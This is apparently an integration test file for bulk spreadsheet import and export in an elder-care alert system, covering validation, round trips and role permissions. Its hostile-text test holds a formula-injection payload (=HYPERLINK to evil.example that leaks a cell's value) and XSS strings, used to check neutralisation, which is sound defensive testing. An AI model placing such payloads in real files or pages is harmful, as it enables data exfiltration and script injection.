/**
 * Issue 20, bulk import and export over HTTP against the real gateway and PostgreSQL: templates, a dry run that
 * lists every bad row and field and writes nothing, all-or-nothing imports with a job's progress, xlsx and CSV,
 * export → import round trips, duplicate IMEIs across files, hostile text (markup, overlong cells, formula
 * injection), files that are too large or not spreadsheets, and who may do what.
 */
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { App } from '../../gateway/app.js';
import { login, startTestApp } from '../helpers/app.js';

type H = { authorization: string };
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

let app: App;
let admin: H;
const as = {} as Record<'agent' | 'supervisor' | 'installer' | 'installer2', H>;

const upload = (h: H, url: string, body: Buffer | string, type: string) => app.http.inject({ method: 'POST', url, headers: { ...h, 'content-type': type }, payload: body });
const get = (h: H, url: string) => app.http.inject({ method: 'GET', url, headers: h });
const count = async (table: string) => Number((await app.db.query(`SELECT count(*) FROM ${table}`)).rows[0].count);

/** Generates a valid 18-character ID number for a birth date (GB 11643 check character). */
function idNumber(birth: string, seq = 1, area = '310105'): string {
  const body = `${area}${birth.replace(/-/g, '')}${String(seq).padStart(3, '0')}`;
  const w = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2];
  const sum = [...body].reduce((s, d, i) => s + Number(d) * w[i]!, 0);
  return body + '10X98765432'[sum % 11];
}

const ELDER_H = ['外部编号 external key', '姓名 name', '性别 gender', '出生日期 birth date', '身份证号 ID number', '电话 phone', '地址 address', '片区 area', '独居 lives alone', '方言 dialect', '类别 category', '病情 conditions', '用药 medications', '过敏 allergies', '家庭医生 doctor', '入户信息 access notes'];
const CONTACT_H = ['老人编号 elder key', '顺序 order', '姓名 name', '关系 relation', '电话 phones', '持钥匙 key holder', '直系亲属 next of kin', '接收短信 may receive SMS'];
const DEVICE_H = ['设备号 identifier', '协议 protocol', '类型 kind', 'SIM卡号 SIM number', '老人编号 elder key'];

async function workbook(sheets: Record<string, (string | number)[][]>): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  for (const [name, rows] of Object.entries(sheets)) {
    const ws = wb.addWorksheet(name);
    for (const r of rows) ws.addRow(r);
  }
  return Buffer.from(await wb.xlsx.writeBuffer());
}

const csvCell = (v: string | number) => (/[",\n]/.test(String(v)) ? `"${String(v).replace(/"/g, '""')}"` : String(v));
const csv = (rows: (string | number)[][]) => rows.map((r) => r.map(csvCell).join(',')).join('\r\n') + '\r\n';

async function sheetsOf(buf: Buffer): Promise<Record<string, string[][]>> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as unknown as ExcelJS.Buffer);
  const out: Record<string, string[][]> = {};
  for (const ws of wb.worksheets) {
    const rows: string[][] = [];
    ws.eachRow((r) => rows.push((r.values as unknown[]).slice(1).map((v) => String(v ?? ''))));
    out[ws.name] = rows;
  }
  return out;
}

async function runImport(h: H, body: Buffer | string, type: string, query = '') {
  const r = await upload(h, `/api/import${query}`, body, type);
  expect(r.statusCode, r.body).toBe(202);
  const id = r.json().id as string;
  for (let i = 0; i < 600; i++) {
    const j = (await get(h, `/api/import/${id}`)).json();
    if (j.state === 'done' || j.state === 'failed') return j;
    await new Promise((res) => setTimeout(res, 50));
  }
  throw new Error('import did not finish');
}

beforeAll(async () => {
  app = await startTestApp({}, { LOGIN_RATE_PER_MIN: '1000' });
  admin = await login(app);
  for (const [name, role] of [['agent', 'agent'], ['supervisor', 'supervisor'], ['installer', 'installer'], ['installer2', 'installer']] as const) {
    const u = await app.http.inject({ method: 'POST', url: '/api/users', headers: admin, payload: { username: `imp-${name}`, role, password: 'password-123' } });
    expect(u.statusCode, u.body).toBe(201);
    as[name] = await login(app, `imp-${name}`, 'password-123');
  }
});
afterAll(async () => app?.stop());

const GOOD_ELDERS = [
  ELDER_H,
  ['A001', '王秀英', '女', '1942-03-07', idNumber('1942-03-07', 2), '13800138000', '上海市长宁区愚园路 1018 弄 3 号', '江苏路街道', '是', '上海话', '独居、高龄', '高血压', '氨氯地平', '青霉素', '李医生', '钥匙在 301 邻居家'],
  ['A002', '张国强', '男', '', idNumber('1938-11-20', 3), '021-62345678', '上海市长宁区安西路 8 号', '江苏路街道', '否', '', '空巢', '', '', '', '', ''],
];
const GOOD_CONTACTS = [
  CONTACT_H,
  ['A001', 2, '王建国', '儿子', '13900139001; 13900139002', '是', '是', '是'],
  ['A001', 1, '陈阿姨', '邻居', '13900139003', '是', '否', '否'],
  ['A002', '', '张丽', '女儿', '+86 139 0013 9004', '否', '是', '是'],
];
const GOOD_DEVICES = [DEVICE_H, ['865028000000017', 'watch', '手表', '13800138001', 'A001'], ['02162340000', 'phone', '', '', 'A002']];

describe('templates', () => {
  it('xlsx with three sheets (zh-CN and English headers, one example row) that imports as it is; a CSV per kind', async () => {
    const r = await get(admin, '/api/import/template?format=xlsx');
    expect(r.statusCode).toBe(200);
    expect(r.headers['content-type']).toContain('spreadsheetml');
    const sheets = await sheetsOf(r.rawPayload);
    expect(Object.keys(sheets)).toEqual(['老人 elders', '联系人 contacts', '设备 devices']);
    expect(sheets['老人 elders']![0]).toEqual(ELDER_H);
    expect(sheets['老人 elders']).toHaveLength(2);
    const dry = await upload(admin, '/api/import/dry-run', r.rawPayload, XLSX);
    expect(dry.json()).toMatchObject({ ok: true, errors: [], counts: { elders: { create: 1 }, contacts: { rows: 1 }, devices: { create: 1 } } });
    const c = await get(admin, '/api/import/template?format=csv&kind=devices');
    expect(c.headers['content-type']).toContain('text/csv');
    expect(c.body.replace(/^\uFEFF/, '').split('\r\n')[0] ?? c.body.split('\n')[0]).toContain('设备号 identifier');
    expect((await get(admin, '/api/import/template?format=csv')).statusCode).toBe(400);
  });
});

describe('dry run and all-or-nothing import', () => {
  it('a file with bad rows lists every one, with its field, and imports nothing; the fixed file imports', async () => {
    const badId = idNumber('1942-03-07', 2).slice(0, 17) + (idNumber('1942-03-07', 2).endsWith('0') ? '1' : '0');
    const bad = await workbook({
      '老人 elders': [
        ELDER_H,
        ['B001', '赵秀兰', '女', '1950-01-01', badId, '12345', '', '', '是', '', '', '', '', '', '', ''],
        ['B002', '', '男', '1944-05-06', idNumber('1944-05-07', 5), '13800138010', '', '', '也许', '', '富裕', '', '', '', '', ''],
        ['B003', 'x'.repeat(101), '男', '', '', '', '', '', '', '', '', '', '', '', '', ''],
        ['B001', '重复', '', '', '', '', '', '', '', '', '', '', '', '', '', ''],
      ],
      '联系人 contacts': [CONTACT_H, ['NOPE', 1, '某某', '儿子', '13900139010', '', '', ''], ['B001', 1, '赵强', '儿子', '不是号码', '', '', '']],
      '设备 devices': [DEVICE_H, ['865028000000025', 'nokia', '', '', 'B001'], ['865028000000033', 'watch', '', '', 'B001'], ['865028000000033', 'watch', '', '', '']],
    });
    const before = await Promise.all(['elders', 'contacts', 'devices'].map(count));
    const dry = await upload(admin, '/api/import/dry-run', bad, XLSX);
    expect(dry.statusCode, dry.body).toBe(200);
    const body = dry.json() as { ok: boolean; errors: { sheet: string; row: number; field: string; column: string; message: string }[] };
    expect(body.ok).toBe(false);
    const has = (sheet: string, row: number, field: string, re: RegExp) =>
      expect(body.errors.some((e) => e.sheet === sheet && e.row === row && e.field === field && re.test(e.message)), `${sheet} row ${row} ${field} ${re}: ${JSON.stringify(body.errors)}`).toBe(true);
    has('elders', 2, 'idNumber', /check character/);
    has('elders', 2, 'phone', /not a valid Chinese phone number/);
    has('elders', 3, 'name', /required/);
    has('elders', 3, 'birthDate', /disagrees with the ID number/);
    has('elders', 3, 'livesAlone', /是/);
    has('elders', 3, 'categories', /unknown category/);
    has('elders', 4, 'name', /too long: at most 100/);
    has('elders', 5, 'key', /given twice \(row 2\)/);
    has('contacts', 2, 'elderKey', /no elder with this key/);
    has('contacts', 3, 'phones', /not a valid Chinese phone number/);
    has('devices', 2, 'protocol', /unknown protocol/);
    has('devices', 4, 'identifier', /duplicate identifier \(IMEI\): also on row 3/);
    expect(body.errors.find((e) => e.field === 'phone')!.column).toBe('电话 phone');
    // installers may not set what they may not see
    const inst = (await upload(as.installer, '/api/import/dry-run', bad, XLSX)).json() as typeof body;
    expect(inst.errors.filter((e) => e.field === 'idNumber' && /installers may not/.test(e.message)).map((e) => e.row)).toEqual([2, 3]);
    expect(await Promise.all(['elders', 'contacts', 'devices'].map(count))).toEqual(before);

    const job = await runImport(admin, bad, XLSX);
    expect(job.state).toBe('failed');
    expect(job.errorCount).toBeGreaterThan(10);
    expect(await Promise.all(['elders', 'contacts', 'devices'].map(count))).toEqual(before);

    const good = await workbook({ '老人 elders': GOOD_ELDERS, '联系人 contacts': GOOD_CONTACTS, '设备 devices': GOOD_DEVICES });
    const ok = (await upload(admin, '/api/import/dry-run', good, XLSX)).json();
    expect(ok).toMatchObject({ ok: true, errors: [], counts: { elders: { rows: 2, create: 2, update: 0 }, contacts: { rows: 3, elders: 2 }, devices: { create: 2 } } });
    const done = await runImport(admin, good, XLSX);
    expect(done).toMatchObject({ state: 'done', total: 7, done: 7, errors: [] });
    const e = (await app.db.query(`SELECT * FROM elders WHERE external_key = 'A001'`)).rows[0];
    expect(e).toMatchObject({ name: '王秀英', gender: 'female', phone: '13800138000', lives_alone: true, categories: ['living_alone', 'advanced_age'], doctor: '李医生', area: '江苏路街道' });
    const a2 = (await app.db.query(`SELECT id, phone, to_char(birth_date, 'YYYY-MM-DD') AS b FROM elders WHERE external_key = 'A002'`)).rows[0];
    expect(a2).toMatchObject({ phone: '02162345678', b: '1938-11-20' }); // the birth date from the ID number
    const cs = (await app.db.query(`SELECT position, name, phone, alt_phones, key_holder FROM contacts WHERE elder_id = $1 ORDER BY position`, [e.id])).rows;
    expect(cs).toEqual([
      { position: 1, name: '陈阿姨', phone: '13900139003', alt_phones: [], key_holder: true },
      { position: 2, name: '王建国', phone: '13900139001', alt_phones: ['13900139002'], key_holder: true },
    ]);
    const dv = (await app.db.query(`SELECT identifier, protocol, kind, sim_phone, elder_id FROM devices ORDER BY id`)).rows;
    expect(dv).toEqual([
      { identifier: '865028000000017', protocol: 'watch', kind: 'watch', sim_phone: '13800138001', elder_id: e.id },
      { identifier: '02162340000', protocol: 'phone', kind: 'one_key_caller', sim_phone: '02162340000', elder_id: a2.id },
    ]);
    // audited: who and how many, no personal data
    const audit = (await app.db.query(`SELECT actor, detail FROM audit_log WHERE action = 'import' ORDER BY id DESC LIMIT 1`)).rows[0];
    expect(audit.detail).toMatchObject({ format: 'xlsx', elders: { create: 2 }, devices: { create: 2 } });
    expect(JSON.stringify(audit.detail)).not.toMatch(/王|138/);
  });

  it('CSV: one kind per file (by headers or ?kind=), headers in either language; a duplicate IMEI across files is refused', async () => {
    const elders = csv([ELDER_H.slice(0, 6), ['C001', '刘桂芳', '女', '1940-02-02', idNumber('1940-02-02', 7), '13800138020']]);
    expect((await runImport(admin, elders, 'text/csv')).state).toBe('done');
    const devices = csv([DEVICE_H, ['865028000000041', 'watch', '', '13800138021', 'C001']]);
    expect((await runImport(admin, devices, 'text/csv', '?kind=devices')).state).toBe('done');
    // the same IMEI for another elder, in another file
    const again = csv([DEVICE_H, ['865028000000041', 'watch', '', '', 'A001'], ['865028000000058', 'gt06', '', '13800138001', '']]);
    const dry = (await upload(admin, '/api/import/dry-run', again, 'text/csv')).json();
    expect(dry.ok).toBe(false);
    expect(dry.errors).toEqual([
      expect.objectContaining({ sheet: 'devices', row: 2, field: 'identifier', message: expect.stringMatching(/already registered/) }),
      expect.objectContaining({ sheet: 'devices', row: 3, field: 'simPhone', message: expect.stringMatching(/already bound/) }),
    ]);
    // the same row as on record is left as it is
    expect((await upload(admin, '/api/import/dry-run', devices, 'text/csv')).json()).toMatchObject({ ok: true, counts: { devices: { create: 0, unchanged: 1 } } });
    const contacts = Buffer.from(csv([['老人编号', '姓名', '电话'], ['C001', '刘强', '13900139020']]), 'utf8');
    const r = (await upload(admin, '/api/import/dry-run?kind=contacts', contacts, 'text/csv')).json();
    expect(r).toMatchObject({ ok: true, counts: { contacts: { rows: 1, elders: 1 } } });
  });
});

describe('export', () => {
  it('an export imports again unchanged (xlsx and CSV round trips)', async () => {
    // an elder made through the API, without a key, exports as #id
    const api = await app.http.inject({ method: 'POST', url: '/api/elders', headers: admin, payload: { name: '孙玉兰', phone: '13900001111', contacts: [{ name: '孙强', phone: '13900002222' }] } });
    expect(api.statusCode).toBe(201);
    const first = await get(admin, '/api/export?format=xlsx');
    expect(first.statusCode).toBe(200);
    const a = await sheetsOf(first.rawPayload);
    expect(a['老人 elders']!.some((r) => r[0] === `#${api.json().id}`)).toBe(true);
    expect(a['老人 elders']!.find((r) => r[0] === 'A001')![4]).toBe(idNumber('1942-03-07', 2)); // admins get the full number
    const dry = (await upload(admin, '/api/import/dry-run', first.rawPayload, XLSX)).json();
    expect(dry.errors).toEqual([]);
    expect(dry.counts.elders.create).toBe(0);
    expect(dry.counts.devices).toMatchObject({ create: 0 });
    expect((await runImport(admin, first.rawPayload, XLSX)).state).toBe('done');
    const second = await sheetsOf((await get(admin, '/api/export?format=xlsx')).rawPayload);
    expect(second).toEqual(a);

    const c1 = await get(admin, '/api/export?format=csv&kind=contacts');
    expect(c1.headers['content-type']).toContain('text/csv');
    expect((await runImport(admin, c1.rawPayload, 'text/csv')).state).toBe('done');
    expect((await get(admin, '/api/export?format=csv&kind=contacts')).body).toBe(c1.body);
  });

  it('hostile text: markup is kept as text, overlong cells are refused, formulas are neutralised on export and restored on import', async () => {
    const hostile = [
      ELDER_H.slice(0, 2).concat('地址 address', '病情 conditions'),
      ['H001', '=HYPERLINK("http://evil.example/?x="&A1,"点我")', '<script>alert(1)</script>', '+1+2'],
      ['H002', '@SUM(1,2)', '-3', '<img src=x onerror=alert(1)>'],
    ];
    const j = await runImport(admin, csv(hostile), 'text/csv');
    expect(j.state, JSON.stringify(j)).toBe('done');
    const e = (await app.db.query(`SELECT name, address, conditions FROM elders WHERE external_key = 'H001'`)).rows[0];
    expect(e).toEqual({ name: '=HYPERLINK("http://evil.example/?x="&A1,"点我")', address: '<script>alert(1)</script>', conditions: '+1+2' });
    const out = (await get(admin, '/api/export?format=csv&kind=elders')).body;
    expect(out).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")"`);
    expect(out).toContain(`'@SUM`);
    expect(out).toContain(`'-3`);
    expect(out).not.toMatch(/(^|,)"?[=+\-@]/m);
    const xl = await sheetsOf((await get(admin, '/api/export?format=xlsx&kind=elders')).rawPayload);
    const row = xl['老人 elders']!.find((r) => r[0] === 'H001')!;
    expect(row[1]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"点我")`);
    // importing the export gives the original text back
    expect((await upload(admin, '/api/import/dry-run', out, 'text/csv')).json()).toMatchObject({ ok: true });
    expect((await runImport(admin, out, 'text/csv')).state).toBe('done');
    expect((await app.db.query(`SELECT name FROM elders WHERE external_key = 'H001'`)).rows[0].name).toBe(e.name);
    // overlong text and a formula cell in a workbook
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('老人 elders');
    ws.addRow(['外部编号', '姓名', '地址']);
    ws.addRow(['H003', '长', 'x'.repeat(5000)]);
    ws.addRow(['H004', { formula: '1+1', result: 2 }, '']);
    const r = (await upload(admin, '/api/import/dry-run', Buffer.from(await wb.xlsx.writeBuffer()), XLSX)).json();
    expect(r.errors).toEqual([
      expect.objectContaining({ row: 2, field: 'address', message: expect.stringMatching(/too long/) }),
      expect.objectContaining({ row: 3, field: 'name', message: expect.stringMatching(/formulas are not accepted/) }),
    ]);
  });
});

describe('files that are not imports', () => {
  it('too large, not a spreadsheet, unknown columns, old .xls', async () => {
    // larger than the API's JSON body limit (256 KiB), within the import's (20 MiB)
    const many = csv([ELDER_H.slice(0, 2), ...Array.from({ length: 20_000 }, (_, i) => [`ZZZZ-${i}`, '某某某某某某'])]);
    expect(many.length).toBeGreaterThan(256 * 1024);
    expect((await upload(admin, '/api/import/dry-run', many, 'text/csv')).json()).toMatchObject({ ok: true, counts: { elders: { create: 20_000 } } });
    const big = await upload(admin, '/api/import/dry-run', Buffer.alloc(21 * 2 ** 20, 0x41), 'text/csv');
    expect(big.statusCode).toBe(413);
    expect(big.json().message).toMatch(/文件过大.*too large/);
    const png = await upload(admin, '/api/import/dry-run', Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), 'application/octet-stream');
    expect(png.statusCode).toBe(400);
    expect(png.json()).toMatchObject({ error: 'not_a_spreadsheet' });
    const zip = await upload(admin, '/api/import/dry-run', Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(100)]), XLSX);
    expect(zip.json()).toMatchObject({ error: 'not_a_spreadsheet', message: expect.stringMatching(/not a readable .xlsx/) });
    const json = await app.http.inject({ method: 'POST', url: '/api/import/dry-run', headers: admin, payload: { elders: [] } });
    expect(json.statusCode).toBe(415);
    const cols = await upload(admin, '/api/import/dry-run?kind=elders', csv([['外部编号', '姓名', '血型']]), 'text/csv');
    expect(cols.json().message).toMatch(/unknown columns: "血型"/);
    const xls = await upload(admin, '/api/import/dry-run', Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'application/vnd.ms-excel');
    expect(xls.json().message).toMatch(/\.xls/);
  });
});

describe('roles', () => {
  it('agents and supervisors get 403; installers export no health notes, ID numbers or contacts, and cannot see others\' jobs', async () => {
    for (const h of [as.agent, as.supervisor]) {
      expect((await get(h, '/api/export')).statusCode).toBe(403);
      expect((await get(h, '/api/import/template')).statusCode).toBe(403);
      expect((await upload(h, '/api/import/dry-run', csv(GOOD_DEVICES), 'text/csv')).statusCode).toBe(403);
      expect((await upload(h, '/api/import', csv(GOOD_DEVICES), 'text/csv')).statusCode).toBe(403);
    }
    const x = await get(as.installer, '/api/export?format=xlsx');
    expect(x.statusCode).toBe(200);
    const sheets = await sheetsOf(x.rawPayload);
    expect(Object.keys(sheets)).toEqual(['老人 elders', '设备 devices']);
    const head = sheets['老人 elders']![0]!;
    for (const h of ['病情 conditions', '用药 medications', '过敏 allergies', '身份证号 ID number', '入户信息 access notes']) expect(head).not.toContain(h);
    expect(head).toContain('电话 phone');
    expect(JSON.stringify(sheets)).not.toContain('高血压');
    expect((await get(as.installer, '/api/export?format=csv&kind=contacts')).statusCode).toBe(403);
    // an installer's export imports again, leaving what the installer cannot see as it was
    const j = await runImport(as.installer, x.rawPayload, XLSX);
    expect(j.state, JSON.stringify(j)).toBe('done');
    expect((await app.db.query(`SELECT conditions, id_number FROM elders WHERE external_key = 'A001'`)).rows[0]).toEqual({ conditions: '高血压', id_number: idNumber('1942-03-07', 2) });
    expect((await get(as.installer2, `/api/import/${j.id}`)).statusCode).toBe(404);
    expect((await get(admin, `/api/import/${j.id}`)).statusCode).toBe(200);
  });
});
